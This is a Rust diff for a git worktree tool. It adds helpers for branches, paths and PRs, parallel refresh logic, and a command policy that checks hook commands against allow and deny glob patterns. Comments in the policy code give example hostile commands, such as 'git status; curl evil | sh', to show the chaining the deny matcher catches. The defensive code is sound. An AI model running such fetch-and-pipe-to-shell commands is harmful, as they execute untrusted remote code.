+/// Request title from the `prTitleTemplate` setting, e.g. `Fix login crash`
+/// for the default `{subject}`. Falls back to the branch name when the
+/// template comes out empty.
+pub fn request_title(template: &str, branch: &str, subject: &str) -> String {
+    let title = template
+        .replace("{branch}", branch)
+        .replace("{subject}", subject);
+    match title.trim() {
+        "" => branch.to_string(),
+        title => title.to_string(),
+    }
+}
+
+/// Whether the branch has gone more than `stale_after_days` without a commit.
+pub fn is_stale(item: &WorktreeInfo, stale_after_days: u64) -> bool {
+    branch_age_days(item).is_some_and(|days| days > stale_after_days)
+}
+
+/// Whether `item` passes `filter`: dirty, with a PR, behind the default
+/// branch and with a branch matching the glob, as far as each is asked for.
+pub fn matches_filter(item: &WorktreeInfo, filter: &WorktreeFilter) -> bool {
+    (!filter.dirty || item.dirty)
+        && (!filter.has_pr || item.pr_number.is_some())
+        && (!filter.behind || item.behind > 0)
+        && filter
+            .branch_glob
+            .as_deref()
+            .is_none_or(|glob| glob_match(glob, &item.branch))
+}
+
+/// Whether `branch` matches an entry of `noWorktreeBranches`: a branch name
+/// or a glob like `dependabot/*`.
+pub fn is_no_worktree_branch(patterns: &[String], branch: &str) -> bool {
+    patterns.iter().any(|pattern| glob_match(pattern, branch))
+}
+
+/// Shell syntax that chains, substitutes or redirects commands.
+const SHELL_OPERATORS: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n"];
+
+/// Characters `*` and `?` in a `commandPolicy` pattern never stand for.
+fn is_shell_operator_char(ch: char) -> bool {
+    matches!(ch, ';' | '&' | '|' | '`' | '$' | '>' | '<' | '\n' | '\r')
+}
+
+/// Whether a `commandPolicy` pattern covers `command`: as a glob over the
+/// whole command line, or, for a pattern of one word, as the program of a
+/// simple command (`npm` covers `npm ci` but not `npm ci && curl ...`). The
+/// program must be a bare name; `npm` doesn't cover `./scripts/npm ci`.
+/// Shell operators in `command` must be spelled out in the pattern, so
+/// `git *` does not cover `git status; curl evil | sh`.
+fn policy_pattern_matches(pattern: &str, command: &str) -> bool {
+    if SHELL_OPERATORS
+        .iter()
+        .any(|op| command.contains(op) && !pattern.contains(op))
+    {
+        return false;
+    }
+    if glob_match_where(pattern, command, |ch| !is_shell_operator_char(ch)) {
+        return true;
+    }
+    if pattern.contains(char::is_whitespace)
+        || SHELL_OPERATORS.iter().any(|op| command.contains(op))
+    {
+        return false;
+    }
+    let program = command.split_whitespace().next().unwrap_or_default();
+    !program.contains(['/', '\\']) && glob_match(pattern, program)
+}
+
+/// Shell keywords that can come before the program of a simple command.
+const LEADING_KEYWORDS: &[&str] = &["if", "then", "elif", "else", "while", "until", "do"];
+
+/// Commands that run the rest of their command line as another command.
+const COMMAND_WRAPPERS: &[&str] = &["env", "command", "exec"];
+
+/// `part` from its program on: leading keywords and grouping (`then`, `!`,
+/// `{`, `(`), `VAR=value` assignments and wrappers like `env` with their
+/// options are skipped, so `then FOO=1 env curl evil` starts at `curl`.
+fn strip_command_prefix(mut part: &str) -> &str {
+    let mut wrapped = false;
+    loop {
+        part =
+            part.trim_start_matches(|ch: char| ch.is_whitespace() || matches!(ch, '!' | '{' | '('));
+        let word = part.split_whitespace().next().unwrap_or_default();
+        let is_assignment = word.split_once('=').is_some_and(|(name, _)| {
+            name.starts_with(|ch: char| ch.is_ascii_alphabetic() || ch == '_')
+                && name
+                    .chars()
+                    .all(|ch| ch.is_ascii_alphanumeric() || ch == '_')
+        });
+        let is_wrapper = COMMAND_WRAPPERS.contains(&word);
+        if word.is_empty()
+            || !(LEADING_KEYWORDS.contains(&word)
+                || is_assignment
+                || is_wrapper
+                || (wrapped && word.starts_with('-')))
+        {
+            return part;
+        }
+        wrapped |= is_wrapper;
+        part = &part[word.len()..];
+    }
+}
+
+/// Whether a `deny` pattern covers `command` or any of the simple commands
+/// chained in it, so `curl*` also denies `git status; curl evil | sh`. Each
+/// command is matched from its program on, so `if true; then curl evil; fi`,
+/// `FOO=1 curl evil` and `env curl evil` are denied too.
+fn deny_pattern_matches(pattern: &str, command: &str) -> bool {
+    policy_pattern_matches(pattern, command)
+        || command
+            .split(is_shell_operator_char)
+            .map(strip_command_prefix)
+            .map(str::trim)
+            .filter(|part| !part.is_empty())
+            .any(|part| policy_pattern_matches(pattern, part))
+}
+
+/// Fails with `GwError::CommandDenied` unless the global `commandPolicy`
+/// lets gw run `command`: a hook's shell command, or `git ...` for a preset
+/// step.
+pub fn check_command_policy(command: &str) -> Result<()> {
+    let policy = settings::load_command_policy()?;
+    let command = command.trim();
+    let denied = policy
+        .deny
+        .iter()
+        .any(|pattern| deny_pattern_matches(pattern, command));
+    let allowed = policy.allow.as_ref().is_none_or(|allow| {
+        allow
+            .iter()
+            .any(|pattern| policy_pattern_matches(pattern, command))
+    });
+    if denied || !allowed {
+        return Err(GwError::CommandDenied {
+            command: command.to_string(),
+        }
+        .into());
+    }
+    Ok(())
+}
+
+/// Shell-style match of the whole `text`: `*` is any run of characters
+/// (`/` included), `?` any single character.
+pub fn glob_match(pattern: &str, text: &str) -> bool {
+    glob_match_where(pattern, text, |_| true)
+}
+
+/// [`glob_match`] where `*` and `?` only stand for characters `wildcard`
+/// accepts.
+fn glob_match_where(pattern: &str, text: &str, wildcard: impl Fn(char) -> bool) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    let (mut p, mut t) = (0, 0);
+    // Where the last `*` was, and how much of the text it has taken so far.
+    let mut backtrack: Option<(usize, usize)> = None;
+    while t < text.len() {
+        match pattern.get(p) {
+            Some('*') => {
+                backtrack = Some((p, t));
+                p += 1;
+            }
+            Some(&ch) if (ch == '?' && wildcard(text[t])) || ch == text[t] => {
+                p += 1;
+                t += 1;
+            }
+            _ => match backtrack {
+                Some((star, taken)) if wildcard(text[taken]) => {
+                    p = star + 1;
+                    t = taken + 1;
+                    backtrack = Some((star, taken + 1));
+                }
+                _ => return false,
+            },
+        }
+    }
+    pattern[p..].iter().all(|&ch| ch == '*')
+}
+
+/// Whether the characters of `query` appear in `text` in order, ignoring
+/// case, e.g. `fl` matches `feat/login`.
+pub fn fuzzy_match(query: &str, text: &str) -> bool {
+    let mut text = text.chars().flat_map(char::to_lowercase);
+    query
+        .chars()
+        .flat_map(char::to_lowercase)
+        .all(|ch| text.any(|candidate| candidate == ch))
+}
+
+/// Longest slugified title put into an issue branch name.
+const ISSUE_SLUG_MAX_LEN: usize = 40;
+
+/// Branch name for an issue from the `issueBranchTemplate` setting, e.g.
+/// `123-fix-login-crash` for the default `{number}-{title}`.
+pub fn issue_branch_name(template: &str, number: u64, title: &str) -> String {
+    let mut slug = slugify(title);
+    if slug.len() > ISSUE_SLUG_MAX_LEN {
+        // Cut at a word boundary when there is one.
+        let cut = slug[..ISSUE_SLUG_MAX_LEN]
+            .rfind('-')
+            .unwrap_or(ISSUE_SLUG_MAX_LEN);
+        slug.truncate(cut);
+    }
+    let slug = slug.trim_end_matches('-');
+
+    template
+        .replace("{number}", &number.to_string())
+        .replace("{title}", slug)
+        .trim_matches(['-', '/'])
+        .to_string()
+}
+
+/// Lowercase ASCII letters and digits, with every other run of characters
+/// turned into a single `-`, e.g. `Fix: login crash` -> `fix-login-crash`.
+pub fn slugify(text: &str) -> String {
+    let mut slug = String::new();
+    for ch in text.chars().flat_map(char::to_lowercase) {
+        if ch.is_ascii_alphanumeric() {
+            slug.push(ch);
+        } else if !slug.is_empty() && !slug.ends_with('-') {
+            slug.push('-');
+        }
+    }
+    slug.trim_end_matches('-').to_string()
+}
+
+/// `{repo}-{branch-slug}`, a docker compose project name unique to the
+/// branch's worktree.
+pub fn compose_project_name(repo_root: &Path, branch: &str) -> String {
+    let repo = repo_root
+        .file_name()
+        .map(|name| slugify(&name.to_string_lossy()))
+        .unwrap_or_default();
+    format!("{repo}-{}", slugify(branch))
+        .trim_matches('-')
+        .to_string()
+}
+
+/// Drops the recorded path for a branch that was deleted or renamed.
+pub fn forget_worktree_path(repo_root: &Path, branch: &str) {
+    if let Ok(db) = CacheDB::open(repo_root) {
+        let _ = db.delete_branch_path(branch);
+    }
+}
+
+/// Keeps the memo of a worktree whose cache key changed from `old_key` to
+/// `new_key` (a renamed branch, or an adopted detached HEAD). Best effort.
+pub fn carry_worktree_note(repo_root: &Path, old_key: &str, new_key: &str) {
+    if git_ops::dry_run() {
+        return;
+    }
+    if let Ok(db) = CacheDB::open(repo_root) {
+        let _ = db.copy_note(old_key, new_key);
+    }
+}
+
+/// Drops the memo cached under `cache_key`, for a branch that is gone for
+/// good or created afresh. Best effort.
+pub fn forget_worktree_note(repo_root: &Path, cache_key: &str) {
+    if git_ops::dry_run() {
+        return;
+    }
+    if let Ok(db) = CacheDB::open(repo_root) {
+        let _ = db.set_note(cache_key, None);
+    }
+}
+
+/// Repo-relative directory for `branch` with every path component made safe
+/// for Windows and macOS filesystems.
+pub fn portable_branch_path(branch: &str) -> PathBuf {
+    branch
+        .split('/')
+        .filter(|part| !part.is_empty())
+        .map(portable_component)
+        .collect()
+}
+
+fn portable_component(part: &str) -> String {
+    let mut out: String = part
+        .chars()
+        .map(|ch| {
+            if matches!(ch, '<' | '>' | ':' | '"' | '\\' | '|' | '?' | '*')
+                || ch.is_control()
+                || is_invisible_char(ch)
+            {
+                '_'
+            } else {
+                ch
+            }
+        })
+        .collect();
+
+    if out.ends_with(['.', ' ']) {
+        out.pop();
+        out.push('_');
+    }
+
+    let stem_len = out.find('.').unwrap_or(out.len());
+    let stem = &out[..stem_len];
+    if WINDOWS_RESERVED_NAMES
+        .iter()
+        .any(|name| name.eq_ignore_ascii_case(stem))
+    {
+        out.insert(stem_len, '_');
+    }
+
+    out
+}
+
+fn is_invisible_char(ch: char) -> bool {
+    matches!(
+        ch,
+        '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}'
+    )
+}
+
+/// Whether `rel` already belongs to another branch, either through a recorded
+/// mapping or an existing worktree whose path differs only by case.
+fn worktree_path_taken(
+    base: &Path,
+    db: Option<&CacheDB>,
+    worktrees: &[ParsedWorktree],
+    branch: &str,
+    rel: &Path,
+) -> bool {
+    let rel_s = rel_path_string(rel);
+    if let Some(Ok(Some(owner))) = db.map(|db| db.get_path_branch(&rel_s)) {
+        if owner != branch {
+            return true;
+        }
+    }
+
+    let base_abs = git_ops::canonicalize(base);
+    let folded = rel_s.to_lowercase();
+    worktrees.iter().any(|wt| {
+        if wt.branch == branch {
+            return false;
+        }
+        let path_abs = git_ops::canonicalize(&wt.path);
+        path_abs
+            .strip_prefix(&base_abs)
+            .is_ok_and(|existing| rel_path_string(existing).to_lowercase() == folded)
+    })
+}
+
+fn rel_path_string(rel: &Path) -> String {
+    rel.components()
+        .map(|part| part.as_os_str().to_string_lossy().to_string())
+        .collect::<Vec<_>>()
+        .join("/")
+}
+
+pub fn short_hash(value: &str) -> String {
+    let mut hasher = Sha1::new();
+    hasher.update(value.as_bytes());
+    let digest = format!("{:x}", hasher.finalize());
+    digest[..6].to_string()
+}
+
+/// Explains why a new worktree cannot be placed at `target`, if it can't:
+/// the path is occupied, or it would nest inside (or around) an existing
+/// worktree.
+pub fn worktree_target_conflict(target: &Path, worktree_paths: &[PathBuf]) -> Option<String> {
+    if let Some(overlap) = worktree_target_overlap(target, worktree_paths) {
+        return Some(overlap);
+    }
+
+    if !git_ops::is_path_available(target) {
+        return Some(format!("target path already exists: {}", target.display()));
+    }
+
+    None
+}
+
+/// Like [`worktree_target_conflict`], but only considers existing worktrees,
+/// not whatever else currently occupies the path.
+pub fn worktree_target_overlap(target: &Path, worktree_paths: &[PathBuf]) -> Option<String> {
+    for existing in worktree_paths {
+        if target == existing.as_path() {
+            return Some(format!("already used by a worktree: {}", target.display()));
+        }
+        if target.starts_with(existing) {
+            return Some(format!(
+                "{} is inside existing worktree {}",
+                target.display(),
+                existing.display()
+            ));
+        }
+        if existing.starts_with(target) {
+            return Some(format!(
+                "{} would contain existing worktree {}",
+                target.display(),
+                existing.display()
+            ));
+        }
+    }
+
+    None
+}
+
+/// What BEHIND|AHEAD is counted against: `origin/<default>` as of the last
+/// fetch, unless the `aheadBehindBase` setting asks for the local default
+/// branch or there is no such remote-tracking branch.
+pub fn ahead_behind_base(repo_root: &Path, default_branch: &str) -> Result<String> {
+    if settings::load_compare_with_remote(repo_root)?
+        && git_ops::remote_tracking_branch_exists(repo_root, "origin", default_branch)
+    {
+        return Ok(format!("origin/{default_branch}"));
+    }
+    Ok(default_branch.to_string())
+}
+
 pub fn load_worktrees(repo_root: &Path) -> Result<Vec<WorktreeInfo>> {
     let default_branch = git_ops::get_default_branch(repo_root);
+    let base = ahead_behind_base(repo_root, &default_branch)?;
     let db = CacheDB::open(repo_root)?;
+    let issues = git_ops::list_branch_issues(repo_root);
+    let descriptions = git_ops::list_branch_descriptions(repo_root);
+    let gone = git_ops::list_gone_upstreams(repo_root);
 
     let mut items = Vec::new();
     for wt in git_ops::parse_worktrees(Some(repo_root))? {
-        if !wt.path.is_dir() {
+        // A locked worktree's directory may just be unmounted.
+        if !wt.path.is_dir() && wt.locked.is_none() {
             continue;
         }
 
@@ -44,39 +1378,30 @@ pub fn load_worktrees(repo_root: &Path) -> Result<Vec<WorktreeInfo>> {
                 (0, 0, false)
             };
 
-        let ab = git_ops::count_ahead_behind(repo_root, target, &default_branch);
+        let ab = git_ops::count_ahead_behind(repo_root, target, &base);
         let cache_key = make_cache_key(&wt.branch, &wt.head);
-        let cached = db.get_cached_worktree(&cache_key)?;
-
-        let (
-            pr_number,
-            pr_state,
-            pr_base,
-            pr_url,
-            checks_passed,
-            checks_total,
-            checks_state,
-            additions,
-            deletions,
-            dirty,
-        ) = if let Some(cached) = cached {
-            (
-                cached.pr_number,
-                cached.pr_state,
-                cached.pr_base,
-                cached.pr_url,
-                cached.checks_passed,
-                cached.checks_total,
-                cached.checks_state,
-                cached.additions,
-                cached.deletions,
-                cached.dirty,
-            )
-        } else {
-            (None, None, None, None, None, None, None, 0, 0, false)
-        };
+        let cached = db.get_cached_worktree(&cache_key)?.unwrap_or_default();
 
         db.upsert_path(&cache_key, &wt.path)?;
+        let issue = ref_name
+            .as_deref()
+            .and_then(|name| issues.get(name).copied());
+        let description = ref_name
+            .as_deref()
+            .and_then(|name| descriptions.get(name).cloned());
+        let (review, tag) = if ref_name.is_none() {
+            (review::review_number(&wt.path), tags::tag_name(&wt.path))
+        } else {
+            (None, None)
+        };
+        let nearest_tag = if ref_name.is_none() && review.is_none() && tag.is_none() {
+            git_ops::nearest_tag(repo_root, &wt.head)
+        } else {
+            None
+        };
+        let in_progress = git_ops::in_progress_operation(&wt.path);
+        let checkout = background_checkout(&wt.path);
+        let upstream_gone = ref_name.as_deref().is_some_and(|name| gone.contains(name));
 
         items.push(WorktreeInfo {
             path: wt.path,
@@ -93,42 +1418,94 @@ pub fn load_worktrees(repo_root: &Path) -> Result<Vec<WorktreeInfo>> {
             push,
             pull_push_validated: false,
             has_upstream,
+            upstream_gone,
             behind: ab.behind,
             ahead: ab.ahead,
-            additions,
-            deletions,
-            dirty,
-            pr_number,
-            pr_state,
-            pr_base,
-            pr_url,
+            additions: cached.additions,
+            deletions: cached.deletions,
+            dirty: cached.dirty,
+            pr_number: cached.pr_number,
+            pr_state: cached.pr_state,
+            pr_base: cached.pr_base,
+            pr_url: cached.pr_url,
+            pr_draft: cached.pr_draft,
+            pr_review_decision: cached.pr_review_decision,
+            pr_title: cached.pr_title,
+            pr_author: cached.pr_author,
+            pr_created_ts: cached.pr_created_at,
+            pr_merged_ts: cached.pr_merged_at,
+            pr_unresolved_threads: cached.pr_unresolved_threads,
             pr_validated: false,
-            checks_passed,
-            checks_total,
-            checks_state,
+            issue,
+            review,
+            tag,
+            nearest_tag,
+            description,
+            note: cached.note,
+            in_progress,
+            checkout,
+            locked: wt.locked,
+            prunable: wt.prunable,
+            checks_passed: cached.checks_passed,
+            checks_total: cached.checks_total,
+            checks_state: cached.checks_state,
             checks_validated: false,
             changes_validated: false,
+            pull_push_updated_ts: cached.pull_push_updated_at,
+            pr_updated_ts: cached.pr_updated_at,
+            changes_updated_ts: cached.changes_updated_at,
         });
     }
 
-    items.sort_by(|a, b| b.last_commit_ts.cmp(&a.last_commit_ts));
+    items.sort_by_key(|item| std::cmp::Reverse(item.last_commit_ts));
     Ok(items)
 }
 
-pub fn refresh_pull_push(repo_root: &Path, items: &mut [WorktreeInfo]) -> Result<()> {
-    git_ops::fetch_prune(repo_root);
+/// Recomputes pull/push counts against each branch's upstream after fetching,
+/// and BEHIND|AHEAD against the freshly fetched base, calling `on_item` with
+/// every worktree as soon as it is done.
+pub fn refresh_pull_push(
+    repo_root: &Path,
+    items: &mut [WorktreeInfo],
+    on_item: &mut dyn FnMut(&WorktreeInfo),
+) -> Result<()> {
+    let default_branch = git_ops::get_default_branch(repo_root);
+    let fetch_options = settings::load_fetch_options(repo_root)?;
+    if fetch_options.worktree_branches_only {
+        let branches: Vec<&str> = items
+            .iter()
+            .filter_map(|item| item.ref_name.as_deref())
+            .collect();
+        let mut fetched = git_ops::origin_upstream_branches(repo_root, &branches);
+        if !fetched.contains(&default_branch) {
+            fetched.insert(0, default_branch.clone());
+        }
+        git_ops::fetch_prune_branches(repo_root, &fetched, &fetch_options);
+    } else {
+        git_ops::fetch_prune(repo_root, &fetch_options);
+    }
     let db = CacheDB::open(repo_root)?;
+    let base = ahead_behind_base(repo_root, &default_branch)?;
+    let gone = git_ops::list_gone_upstreams(repo_root);
 
     for item in items {
+        let target = item.ref_name.as_deref().unwrap_or(&item.head);
+        let ab = git_ops::count_ahead_behind(repo_root, target, &base);
+        item.behind = ab.behind;
+        item.ahead = ab.ahead;
+
         if item.ref_name.is_none() {
             item.pull = 0;
             item.push = 0;
             item.has_upstream = false;
             item.pull_push_validated = true;
+            item.pull_push_updated_ts = Some(now_ts());
+            on_item(item);
             continue;
         }
 
         let ref_name = item.ref_name.as_deref().unwrap_or_default();
+        item.upstream_gone = gone.contains(ref_name);
         let upstream = git_ops::get_upstream(repo_root, ref_name);
         if let Some(upstream) = upstream {
             let ab = git_ops::count_ahead_behind(repo_root, ref_name, &upstream);
@@ -142,121 +1519,322 @@ pub fn refresh_pull_push(repo_root: &Path, items: &mut [WorktreeInfo]) -> Result
         }
 
         item.pull_push_validated = true;
+        item.pull_push_updated_ts = Some(now_ts());
         db.upsert_pull_push(&item.cache_key, &item.path, item.pull, item.push)?;
+        on_item(item);
     }
 
     Ok(())
 }
 
-pub fn refresh_changes(repo_root: &Path, items: &mut [WorktreeInfo]) -> Result<()> {
+/// Upper bound on concurrent `git status` runs during a refresh.
+const MAX_STATUS_WORKERS: usize = 8;
+
+/// Recomputes diff stats of each worktree, several at a time, calling `on_item`
+/// with every worktree as soon as it is done.
+pub fn refresh_changes(
+    repo_root: &Path,
+    items: &mut [WorktreeInfo],
+    on_item: &mut dyn FnMut(&WorktreeInfo),
+) -> Result<()> {
     let db = CacheDB::open(repo_root)?;
+    // With a filesystem monitor, untracked files are cheap to find anyway.
+    let fast = settings::load_fast_status(repo_root)? && !git_ops::fsmonitor_enabled(repo_root);
+    let full_status_branches = settings::load_full_status_branches(repo_root)?;
 
-    for item in items {
-        if !item.path.is_dir() {
-            continue;
+    let jobs: Vec<(usize, PathBuf, bool)> = items
+        .iter()
+        .enumerate()
+        // Until its files are checked out, a worktree looks like it deletes
+        // everything.
+        .filter(|(_, item)| item.path.is_dir() && background_checkout(&item.path).is_none())
+        .map(|(index, item)| {
+            let include_untracked = !fast || full_status_branches.contains(&item.branch);
+            (index, item.path.clone(), include_untracked)
+        })
+        .collect();
+    let workers = thread::available_parallelism()
+        .map_or(1, usize::from)
+        .min(MAX_STATUS_WORKERS)
+        .min(jobs.len().max(1));
+    let next_job = AtomicUsize::new(0);
+
+    thread::scope(|scope| {
+        let (tx, rx) = mpsc::channel();
+        for _ in 0..workers {
+            let tx = tx.clone();
+            let (jobs, next_job) = (&jobs, &next_job);
+            scope.spawn(move || {
+                while let Some((index, path, include_untracked)) =
+                    jobs.get(next_job.fetch_add(1, Ordering::Relaxed))
+                {
+                    let stats = git_ops::diff_counts(path, *include_untracked);
+                    if tx.send((*index, stats)).is_err() {
+                        return;
+                    }
+                }
+            });
         }
+        drop(tx);
 
-        let stats = git_ops::diff_counts(&item.path);
-        item.additions = stats.additions;
-        item.deletions = stats.deletions;
-        item.dirty = stats.dirty;
-        item.changes_validated = true;
+        for (index, stats) in rx {
+            let item = &mut items[index];
+            item.additions = stats.additions;
+            item.deletions = stats.deletions;
+            item.dirty = stats.dirty;
+            item.in_progress = git_ops::in_progress_operation(&item.path);
+            item.changes_validated = true;
+            item.changes_updated_ts = Some(now_ts());
 
-        db.upsert_changes(
-            &item.cache_key,
-            &item.path,
-            stats.additions,
-            stats.deletions,
-            stats.dirty,
-        )?;
-    }
+            db.upsert_changes(
+                &item.cache_key,
+                &item.path,
+                stats.additions,
+                stats.deletions,
+                stats.dirty,
+            )?;
+            on_item(item);
+        }
+        Ok(())
+    })
+}
 
-    Ok(())
+/// Upper bound on concurrent `git worktree add` runs; each checkout is
+/// mostly disk-bound.
+const MAX_CHECKOUT_WORKERS: usize = 4;
+
+/// Creates a worktree for each `(branch, path)` of existing branches, several
+/// at a time. Each created path is pushed to `created` and reported to
+/// `on_created` as soon as it is done. After a failure no new checkouts are
+/// started; the ones running are finished and the first error is returned.
+pub fn add_worktrees(
+    repo_root: &Path,
+    targets: &[(String, PathBuf)],
+    created: &mut Vec<PathBuf>,
+    on_created: &mut dyn FnMut(&str),
+) -> Result<()> {
+    let workers = thread::available_parallelism()
+        .map_or(1, usize::from)
+        .min(MAX_CHECKOUT_WORKERS)
+        .min(targets.len().max(1));
+    let next_job = AtomicUsize::new(0);
+    let failed = AtomicBool::new(false);
+
+    thread::scope(|scope| {
+        let (tx, rx) = mpsc::channel();
+        for _ in 0..workers {
+            let tx = tx.clone();
+            let (next_job, failed) = (&next_job, &failed);
+            scope.spawn(move || {
+                while !failed.load(Ordering::Relaxed) {
+                    let Some((branch, path)) =
+                        targets.get(next_job.fetch_add(1, Ordering::Relaxed))
+                    else {
+                        return;
+                    };
+                    let result = git_ops::worktree_add(repo_root, path, branch, None)
+                        .map_err(|err| anyhow!("failed to create worktree for {branch}: {err}"));
+                    if result.is_err() {
+                        failed.store(true, Ordering::Relaxed);
+                    }
+                    if tx.send((branch, path, result)).is_err() {
+                        return;
+                    }
+                }
+            });
+        }
+        drop(tx);
+
+        let mut first_error = None;
+        for (branch, path, result) in rx {
+            match result {
+                Ok(()) => {
+                    record_worktree_path(repo_root, branch, path);
+                    created.push(path.clone());
+                    on_created(branch);
+                }
+                Err(err) => {
+                    first_error.get_or_insert(err);
+                }
+            }
+        }
+        first_error.map_or(Ok(()), Err)
+    })
 }
 
-pub fn refresh_github(repo_root: &Path, items: &mut [WorktreeInfo]) -> Result<()> {
-    let db = CacheDB::open(repo_root)?;
+const FORGE_AUTH_ERROR_KEY: &str = "forge_auth_error";
 
-    for item in items {
-        let Some(ref_name) = item.ref_name.as_deref() else {
-            item.pr_number = None;
-            item.pr_state = None;
-            item.pr_base = None;
-            item.pr_url = None;
-            item.pr_validated = true;
-            item.checks_passed = None;
-            item.checks_total = None;
-            item.checks_state = None;
-            item.checks_validated = true;
-            continue;
-        };
+/// The authentication problem the last forge refresh ran into, or failing
+/// that, what the forge's tooling lacks, if anything.
+pub fn cached_forge_warning(repo_root: &Path) -> Option<String> {
+    CacheDB::open(repo_root)
+        .and_then(|db| db.get_meta(FORGE_AUTH_ERROR_KEY))
+        .ok()
+        .flatten()
+}
 
-        let pr_info = gh_ops::get_pr_info(repo_root, ref_name);
-        let Some(pr_info) = pr_info else {
-            item.pr_number = None;
-            item.pr_state = None;
-            item.pr_base = None;
-            item.pr_url = None;
-            item.pr_validated = true;
-            item.checks_passed = None;
-            item.checks_total = None;
-            item.checks_state = None;
-            item.checks_validated = true;
-
-            db.upsert_pr_and_checks(
-                &item.cache_key,
-                &item.path,
-                None,
-                None,
-                None,
-                None,
-                None,
-                None,
-                None,
-            )?;
-            continue;
-        };
+pub fn refresh_forge(
+    repo_root: &Path,
+    forge: &dyn Forge,
+    items: &mut [WorktreeInfo],
+) -> Result<()> {
+    let db = CacheDB::open(repo_root)?;
 
-        let checks_info = gh_ops::get_checks_info(repo_root, pr_info.number);
+    let branches: Vec<String> = items
+        .iter()
+        .filter_map(|item| item.ref_name.clone())
+        .collect();
+    // Keep the cached values if the forge could not be queried at all, and
+    // remember auth problems so the next start can warn about them right away.
+    let prs = match forge.requests_for_branches(repo_root, &branches) {
+        Ok(prs) => {
+            let warning = forge.capability_warning(repo_root);
+            db.set_meta(FORGE_AUTH_ERROR_KEY, warning.as_deref())?;
+            prs
+        }
+        Err(ForgeError::Auth(message)) => {
+            db.set_meta(FORGE_AUTH_ERROR_KEY, Some(&message))?;
+            return Ok(());
+        }
+        Err(ForgeError::Failed) => return Ok(()),
+    };
+
+    for item in items {
+        let found = item.ref_name.as_deref().and_then(|name| prs.get(name));
+        let pr = found.map(|(pr, _)| pr);
+        let checks = found.map(|(_, checks)| checks);
 
-        item.pr_number = Some(pr_info.number);
-        item.pr_state = Some(pr_info.state.clone());
-        item.pr_base = pr_info.base.clone();
-        item.pr_url = pr_info.url.clone();
+        item.pr_number = pr.map(|pr| pr.number);
+        item.pr_state = pr.map(|pr| pr.state.clone());
+        item.pr_base = pr.and_then(|pr| pr.base.clone());
+        item.pr_url = pr.and_then(|pr| pr.url.clone());
+        item.pr_draft = pr.is_some_and(|pr| pr.is_draft);
+        item.pr_review_decision = pr.and_then(|pr| pr.review_decision.clone());
+        item.pr_title = pr.and_then(|pr| pr.title.clone());
+        item.pr_author = pr.and_then(|pr| pr.author.clone());
+        item.pr_created_ts = pr.and_then(|pr| pr.created_ts);
+        item.pr_merged_ts = pr.and_then(|pr| pr.merged_ts);
+        item.pr_unresolved_threads = pr.and_then(|pr| pr.unresolved_threads);
         item.pr_validated = true;
-        item.checks_passed = checks_info.as_ref().map(|c| c.passed);
-        item.checks_total = checks_info.as_ref().map(|c| c.total);
-        item.checks_state = checks_info.as_ref().and_then(|c| c.state.clone());
+        item.pr_updated_ts = Some(now_ts());
+        item.checks_passed = checks.map(|c| c.passed);
+        item.checks_total = checks.map(|c| c.total);
+        item.checks_state = checks.and_then(|c| c.state.clone());
         item.checks_validated = true;
 
-        db.upsert_pr_and_checks(
-            &item.cache_key,
-            &item.path,
-            Some(pr_info.number),
-            Some(&pr_info.state),
-            pr_info.base.as_deref(),
-            pr_info.url.as_deref(),
-            checks_info.as_ref().map(|c| c.passed),
-            checks_info.as_ref().map(|c| c.total),
-            checks_info.as_ref().and_then(|c| c.state.as_deref()),
-        )?;
+        if item.ref_name.is_some() {
+            db.upsert_pr_and_checks(&item.cache_key, &item.path, pr, checks)?;
+        }
     }
 
     Ok(())
 }
 
+/// Converts the PR of the worktree cached under `cache_key` to a draft or
+/// marks it ready, and records the new state in the cache.
+pub fn set_pr_draft(repo_root: &Path, cache_key: &str, number: i64, draft: bool) -> Result<()> {
+    let forge = forge::detect_forge(repo_root);
+    forge.set_draft(repo_root, number, draft)?;
+    if git_ops::dry_run() {
+        return Ok(());
+    }
+    CacheDB::open(repo_root)?.set_pr_draft(cache_key, draft)
+}
+
+/// Sets the memo of the worktree cached under `cache_key`; an empty `note`
+/// removes it.
+pub fn set_worktree_note(repo_root: &Path, cache_key: &str, note: &str) -> Result<()> {
+    if git_ops::dry_run() {
+        logging::would_run(&format!("save the note of {cache_key} in gw's cache"));
+        return Ok(());
+    }
+    let note = Some(note).filter(|note| !note.is_empty());
+    CacheDB::open(repo_root)?.set_note(cache_key, note)
+}
+
+/// The worktree of `branch` with its PR and checks refreshed from the forge,
+/// or as cached together with the reason the forge could not be queried.
+pub fn refresh_worktree_forge(
+    repo_root: &Path,
+    branch: &str,
+) -> Result<(WorktreeInfo, Option<String>)> {
+    let mut items: Vec<WorktreeInfo> = load_worktrees(repo_root)?
+        .into_iter()
+        .filter(|item| item.branch == branch)
+        .collect();
+    if items.is_empty() {
+        return Err(anyhow!("no worktree for branch {branch}"));
+    }
+
+    let forge = forge::detect_forge(repo_root);
+    if let Err(reason) = forge.availability() {
+        return Ok((items.remove(0), Some(reason)));
+    }
+    refresh_forge(repo_root, forge.as_ref(), &mut items)?;
+    let item = items.remove(0);
+    let stale_reason = (!item.checks_validated).then(|| {
+        format!(
+            "could not fetch {} data from the forge",
+            forge.request_label()
+        )
+    });
+    Ok((item, stale_reason))
+}
+
+/// Refreshes everything that needs the network or touches every worktree.
+/// Rows are passed to `on_item` as the git-side columns finish; forge data
+/// arrives for all rows at once. Stops with a "cancelled" error between
+/// steps once `cancelled` returns true.
 pub fn refresh_from_upstream(
     repo_root: &Path,
     items: &mut [WorktreeInfo],
-    gh_available: bool,
+    forge_available: bool,
+    cancelled: &dyn Fn() -> bool,
+    on_item: &mut dyn FnMut(&WorktreeInfo),
 ) -> Result<()> {
-    refresh_pull_push(repo_root, items)?;
-    refresh_changes(repo_root, items)?;
+    let stop_if_cancelled = || {
+        if cancelled() {
+            return Err(anyhow!("cancelled"));
+        }
+        Ok(())
+    };
+    refresh_pull_push(repo_root, items, on_item)?;
+    stop_if_cancelled()?;
+    refresh_changes(repo_root, items, on_item)?;
+    stop_if_cancelled()?;
+
+    if forge_available {
+        let forge = forge::detect_forge(repo_root);
+        refresh_forge(repo_root, forge.as_ref(), items)?;
+    }
 
-    if gh_available {
-        refresh_github(repo_root, items)?;
+    Ok(())
+}
+
+/// Git settings that make the `git status` runs of a refresh cheaper in big
+/// repos and are still off here, as `(key, value)` pairs for `git config`.
+/// The filesystem monitor is only suggested where git has one built in.
